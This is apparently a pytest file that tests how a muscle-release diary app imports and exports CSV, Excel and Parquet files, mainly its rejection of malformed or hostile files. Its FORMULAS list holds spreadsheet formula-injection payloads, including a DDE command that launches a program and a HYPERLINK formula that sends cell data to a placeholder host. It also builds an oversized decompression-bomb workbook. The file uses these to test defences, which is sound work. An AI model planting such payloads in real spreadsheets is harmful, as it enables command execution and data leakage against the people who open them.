"""A file made in error or in malice: one clear sentence, and the diary is as it was."""

import os
import random
import zipfile
from datetime import timedelta
from hashlib import sha256

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from tracker.diary.errors import ImportRejected
from tracker.diary.schema import TABLES
from tracker.facade import open_diary
from tracker.protocol.custom import OwnSpot
from tracker.protocol.release import Release

COLUMNS = list(Release.model_fields)
HEADER = ",".join(COLUMNS)
GOOD = {
    "started_at": "2026-11-18T12:00:00+00:00",
    "muscle": "piriformis",
    "spot": "near the sacrum",
    "side": "left",
    "tool": "lacrosse ball",
    "pain_before": "6",
}


def row(**cells: str) -> str:
    return ",".join((GOOD | cells).get(column, "") for column in COLUMNS)


def csv_of(*lines: str) -> bytes:
    return "\n".join([HEADER, *lines, ""]).encode(errors="surrogateescape")


def dump(diary) -> str:
    """A hash of every row of every table."""
    with diary.engine.connect() as connection:
        rows = [sorted(map(repr, connection.execute(select(t)))) for t in TABLES.values()]
    return sha256(repr(rows).encode()).hexdigest()


@pytest.fixture
def refused(diary, release, tmp_path):
    """Import a file of this content under this name; the one sentence that refuses it."""
    diary.add(release(note="was here before"))

    def of(name: str, content: bytes | None = None) -> str:
        if content is not None:
            (tmp_path / name).write_bytes(content)
        before = dump(diary)
        with pytest.raises(ImportRejected) as refusal:
            diary.import_file(tmp_path / name)
        assert dump(diary) == before
        said = str(refusal.value)
        assert "\n" not in said
        assert len(said) < 600
        assert said.endswith((".", ")"))
        return said

    return of


FORMULAS = [
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+1",
    "-2+3+cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://x.test?"&A1,"click")',
    "＝1+1",
    "'=1+1",
    "''",
]


@pytest.mark.parametrize("note", FORMULAS)
@pytest.mark.parametrize("name", ["out.csv", "out.xlsx", "out.parquet"])
def test_formulas_leave_as_text_and_come_back_as_they_were(diary, release, tmp_path, note, name):
    diary.add(release(note=note))
    diary.export_file(tmp_path / name)
    if name == "out.csv" and note[0] != "'":
        content = (tmp_path / name).read_text(encoding="utf-8-sig")
        assert f",{note}" not in content
        assert f'"{note}' not in content
    with open_diary(tmp_path / "other.db") as other:
        other.import_file(tmp_path / name)
        assert other.all(Release)[0].note == note


def test_a_workbooks_texts_are_never_formulas(diary, release, noon, tmp_path):
    for number, note in enumerate([*FORMULAS, "#N/A", "2026-11-22", "7", "TRUE"]):
        diary.add(release(started_at=noon - timedelta(hours=number), note=note))
    diary.add(OwnSpot(added_at=noon, muscle="psoas", name="=1+1"))
    diary.export_file(tmp_path / "out.xlsx")
    book = load_workbook(tmp_path / "out.xlsx")
    cells = [cell for sheet in book for cells in sheet.iter_rows() for cell in cells]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b"}
    notes = [cell for cell in cells if cell.row > 1 and isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in notes)


LONG_HEADER = ",".join(f"column {number}" for number in range(50_000)).encode()
NOISE = random.Random(7).randbytes(200_000)


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("x.csv", b"", "x.csv is empty; its first row must name the columns."),
        ("x.csv", csv_of(row(note="\0")), "x.csv holds null bytes, which no text has"),
        (
            "x.csv",
            csv_of(row(note="a" * 10_000_000)),
            "x.csv, row 2: it is longer than any entry (131,072 bytes)",
        ),
        (
            "x.csv",
            csv_of(row(note="caf\u00e9"), row(note="caf\udce9")),
            "x.csv, row 3: it is not UTF-8 text",
        ),
        (
            "x.csv",
            csv_of(row()).replace(b"6", b"6\xed\xa0\x80", 1),
            "x.csv, row 2: it is not UTF-8 text",
        ),
        (
            "x.csv",
            csv_of(row()).replace(b"note", b"note,note", 1),
            "x.csv, row 1: the column 'note' is there twice; remove one.",
        ),
        ("x.csv", csv_of("2026-11-18T12:00Z,me"), "x.csv, row 2: it has 2 cells, and"),
        ("x.csv", csv_of(row() + ",,1"), "x.csv, row 2: it has 23 cells, and"),
        ("x.csv", LONG_HEADER, "x.csv, row 1: it is longer than any entry"),
        (
            "x.csv",
            LONG_HEADER[:100_000].rsplit(b",", 1)[0],
            "x.csv is neither the kit's own CSV nor a layout",
        ),
        ("x.csv", NOISE, "x.csv holds null bytes"),
        ("x.csv", b"PK\x03\x04" + NOISE, "x.csv is a spreadsheet workbook or a ZIP archive"),
        ("x.xlsx", csv_of(row()), "x.xlsx is not an Excel workbook that can be read"),
        ("x.xlsx", b"", "x.xlsx is not an Excel workbook that can be read"),
        ("x.xlsx", b"PK\x03\x04" + NOISE, "x.xlsx is not an Excel workbook that can be read"),
        ("x.parquet", csv_of(row()), "x.parquet is not a Parquet file that can be read"),
        ("x.parquet", b"PAR1" + NOISE + b"PAR1", "x.parquet is not a Parquet file"),
        ("x.xlsx", None, "There is no file "),
        ("x.parquet", None, "There is no file "),
    ],
    ids=range(19),
)
def test_it_is_said_what_is_wrong(refused, name, content, sentence):
    assert refused(name, content).startswith(sentence)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".parquet"])
def test_a_folder_is_no_file(refused, tmp_path, suffix):
    (tmp_path / f"folder{suffix}").mkdir()
    assert f"folder{suffix}" in refused(f"folder{suffix}")


def test_only_a_header_changes_nothing(diary, tmp_path):
    (tmp_path / "x.csv").write_bytes(csv_of())
    assert str(diary.import_csv(tmp_path / "x.csv")) == "0 new, 0 changed, 0 unchanged"


def test_a_row_far_down_undoes_all_before_it(refused):
    good = [
        row(started_at=f"2026-{n // 400 + 1:02}-01T12:{n // 60 % 60:02}:{n % 60:02}Z")
        for n in range(4_000)
    ]
    good += [
        row(started_at=f"2025-{n // 1000 + 1:02}-01T{n // 60 % 24:02}:{n % 60:02}:00Z")
        for n in range(2_000)
    ]
    content = csv_of(*good, row(pain_before="11"))
    assert refused("x.csv", content) == (
        "x.csv, row 6002: pain_before must be a whole number from 0 to 10, not 11."
    )


# Workbooks


def workbook(path, *rows, sheet="Releases"):
    book = Workbook()
    book.active.title = sheet
    for cells in rows:
        book.active.append(cells)
    book.save(path)


def test_a_workbook_without_our_sheets(refused, tmp_path):
    workbook(tmp_path / "x.xlsx", COLUMNS, sheet="Tabelle1")
    assert refused("x.xlsx").startswith("x.xlsx has no sheet named Own muscles, Own spots, ")


@pytest.mark.parametrize(
    ("rows", "sentence"),
    [
        ([], "x.xlsx, sheet Releases is empty; its first row must name the columns."),
        ([[*COLUMNS, "note"]], "x.xlsx, sheet Releases, row 1: the column 'note' is there twice"),
        ([COLUMNS[:-2]], "x.xlsx, sheet Releases, row 1: the column 'arm' is missing; add it."),
        (
            [COLUMNS, [GOOD.get(column) for column in COLUMNS] + [None, "beyond"]],
            "x.xlsx, sheet Releases, row 2: it has 23 cells, and the header names 21 columns.",
        ),
        (
            [COLUMNS, [({**GOOD, "pain_before": 11}).get(column) for column in COLUMNS]],
            "x.xlsx, sheet Releases, row 2: pain_before must be a whole number from 0 to 10, "
            "not 11.",
        ),
        (
            [COLUMNS, [({**GOOD, "pain_before": "=5+1"}).get(column) for column in COLUMNS]],
            "x.xlsx, sheet Releases, row 2: pain_before is missing",
        ),
        (
            [COLUMNS, [({**GOOD, "note": "a" * 32_000}).get(column) for column in COLUMNS]],
            "x.xlsx, sheet Releases, row 2: note must be a text of at most 10,000 characters",
        ),
    ],
)
def test_what_is_wrong_in_a_workbook_names_the_sheet(refused, tmp_path, rows, sentence):
    workbook(tmp_path / "x.xlsx", *rows)
    assert refused("x.xlsx").startswith(sentence)


def test_numbers_and_texts_typed_into_a_workbook_are_read(diary, tmp_path):
    typed = {**GOOD, "pain_before": 6.0, "held_s": 90, "stay_assigned": True, "note": 7}
    workbook(tmp_path / "x.xlsx", COLUMNS, [typed.get(column) for column in COLUMNS], [None, " "])
    assert diary.import_file(tmp_path / "x.xlsx").new == 1
    entry = diary.all(Release)[0]
    assert (entry.held_s, entry.stay_assigned, entry.note) == (90, True, "7")


def test_a_workbook_that_unpacks_to_more_than_a_diary_is_not_opened(refused, tmp_path):
    workbook(tmp_path / "x.xlsx", COLUMNS)
    with zipfile.ZipFile(tmp_path / "x.xlsx", "a", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/sharedStrings.xml", b"0" * 60_000_000)
    assert refused("x.xlsx") == (
        "x.xlsx unpacks to 60,000,000 bytes, more than any diary; it was not opened."
    )


def test_a_workbook_that_may_not_be_read(refused, tmp_path, monkeypatch):
    def refuse(*_):
        raise PermissionError(13, "Permission denied")

    workbook(tmp_path / "x.xlsx", COLUMNS)
    monkeypatch.setattr(zipfile, "ZipFile", refuse)
    assert refused("x.xlsx") == (
        f"{tmp_path / 'x.xlsx'} cannot be read (Permission denied); check its name and permissions."
    )


def test_a_workbook_damaged_inside(refused, tmp_path):
    workbook(tmp_path / "x.xlsx", COLUMNS, [GOOD.get(column) for column in COLUMNS])
    with zipfile.ZipFile(tmp_path / "x.xlsx") as book:
        parts = {name: book.read(name) for name in book.namelist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"][:-60]
    with zipfile.ZipFile(tmp_path / "x.xlsx", "w") as book:
        for name, content in parts.items():
            book.writestr(name, content)
    assert refused("x.xlsx").startswith("x.xlsx is not an Excel workbook that can be read")


# Parquet


def test_a_parquet_file_of_something_else(refused, tmp_path):
    pq.write_table(pa.table({"when": [1], "how": ["b"]}), tmp_path / "x.parquet")
    assert refused("x.parquet").startswith("x.parquet is neither the kit's own CSV nor a layout")


@pytest.mark.parametrize(
    ("column", "values", "sentence"),
    [
        ("pain_before", ["eleven"], "pain_before must be a whole number from 0 to 10"),
        ("pain_before", [None], "pain_before is missing: it must be"),
        ("started_at", [pa.scalar(5, pa.timestamp("us"))], "started_at must be a time with"),
    ],
)
def test_a_parquet_column_of_another_type(refused, tmp_path, column, values, sentence):
    columns = {name: pa.array([GOOD.get(name)], pa.string()) for name in COLUMNS}
    columns["pain_before"] = pa.array([6.0])
    made = [value.as_py() if isinstance(value, pa.Scalar) else value for value in values]
    columns[column] = pa.array(made)
    pq.write_table(pa.table(columns), tmp_path / "x.parquet")
    assert refused("x.parquet").startswith(f"x.parquet, row 2: {sentence}")


def test_a_parquet_column_that_is_there_twice(refused, tmp_path):
    pq.write_table(
        pa.Table.from_arrays([pa.array([""])] * 2, names=["note", "note"]), tmp_path / "x.parquet"
    )
    assert refused("x.parquet") == "x.parquet: the column 'note' is there twice; remove one."


def test_a_parquet_column_of_bytes(refused, tmp_path):
    columns = {name: pa.array([GOOD.get(name)], pa.string()) for name in COLUMNS}
    pq.write_table(pa.table({**columns, "note": pa.array([b"\x00\xff"])}), tmp_path / "x.parquet")
    assert refused("x.parquet").startswith("x.parquet: the column 'note' holds binary, and neither")


def test_a_parquet_file_cut_short(refused, diary, tmp_path):
    diary.export_file(tmp_path / "x.parquet")
    os.truncate(tmp_path / "x.parquet", 300)
    assert refused("x.parquet").startswith("x.parquet is not a Parquet file that can be read")


# Histories


def test_a_history_that_was_edited_is_refused(diary, release, tmp_path):
    diary.add(release())
    diary.export_csv(tmp_path / "x.csv", revisions=True)
    edited = (tmp_path / "x.csv").read_text().replace(",6,", ",5,")
    (tmp_path / "x.csv").write_text(edited)
    before = dump(diary)
    with pytest.raises(ImportRejected, match="a history is never edited; export without revisions"):
        diary.import_csv(tmp_path / "x.csv")
    assert dump(diary) == before


@pytest.mark.parametrize(
    ("column", "cell", "sentence"),
    [
        ("revision", "0", "revision must be a whole number from 1, not 0."),
        ("revision", "", "revision is missing: it must be a whole number from 1."),
        ("recorded_at", "yesterday", "recorded_at must be a time with its zone"),
        ("recorded_by", "x" * 81, "recorded_by must be a name of 1 to 80 printable characters"),
        ("action", "burn", "action must be one of add, amend, delete, undo, not 'burn'."),
        ("deleted", "perhaps", "deleted must be true or false, not 'perhaps'."),
    ],
)
def test_what_is_wrong_with_a_revision_is_said(refused, column, cell, sentence):
    about = {
        "revision": "1",
        "recorded_at": "2026-11-18T12:00Z",
        "recorded_by": "phone",
        "action": "add",
        "deleted": "false",
    }
    cells = {**about, **GOOD, column: cell}
    columns = [*about, *COLUMNS]
    line = ",".join(cells.get(name, "") for name in columns)
    content = f"{','.join(columns)}\n{line}\n".encode()
    assert refused("x.csv", content).startswith(f"x.csv, row 2: {sentence}")


@pytest.mark.parametrize("cell", ["18/11/2026 12:00", "46344.5"])
def test_a_time_that_a_spreadsheet_wrote_its_own_way(refused, diary, tmp_path, cell):
    diary.export_csv(tmp_path / "x.csv")
    content = (tmp_path / "x.csv").read_bytes().replace(b"2026-11-18 12:00:00", cell.encode())
    assert refused("x.csv", content) == (
        f"x.csv, row 2: started_at must be a time such as 2026-11-22 18:30:00, not '{cell}'; where "
        "a spreadsheet wrote it its own way, format the column as yyyy-mm-dd hh:mm:ss and save it "
        "anew."
    )


def test_a_spreadsheets_zone_that_is_none(refused, diary, tmp_path):
    diary.export_csv(tmp_path / "x.csv")
    content = (tmp_path / "x.csv").read_bytes().replace(b"UTC+00:00", b"CET")
    assert refused("x.csv", content) == (
        "x.csv, row 2: started_at_zone must be a zone such as UTC+01:00, not 'CET'."
    )
